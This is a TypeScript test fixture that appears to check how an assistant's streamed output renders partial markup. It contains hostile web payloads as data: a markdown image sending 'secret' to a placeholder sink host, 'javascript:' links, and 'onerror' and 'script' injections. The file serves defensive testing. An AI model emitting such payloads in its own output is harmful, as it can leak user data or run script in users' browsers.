/** Articles that the assistant reads out word by word: each half of them is drawn for a moment. */

export interface StreamCase {
  readonly title: string
  /** Asks for the article. */
  readonly word: string
  readonly content: string
  /** What can be read at the end. */
  readonly shows: string
}

export const STREAM_CASES: readonly StreamCase[] = [
  {
    title: '[RE-011] an image whose address comes in pieces',
    word: 'kiwi',
    content:
      'Your state: ![state of things]({sink}/stream ?d=secret) and ![now]({sink}/stream?d=1) kiwi',
    shows: 'kiwi',
  },
  {
    title: 'a link whose address becomes a script',
    word: 'plum',
    content: `[open the door](java script:trap('stream') ) [open](javascript:trap('stream')) plum`,
    shows: 'plum',
  },
  {
    title: '[RH-004] an element that is never closed',
    word: 'pear',
    content: `See pear <img src=none onerror=trap('open') <script> trap('script') <img src="none" onerror="trap('end')`,
    shows: `onerror="trap('end')`,
  },
  {
    title: 'a fence that hides markup until it is open',
    word: 'fig',
    content: `fig\n\n\`\`\`html x\n<img src=none onerror=trap('fence')>\n\`\`\`\n\nthe end of it`,
    shows: 'the end of it',
  },
]
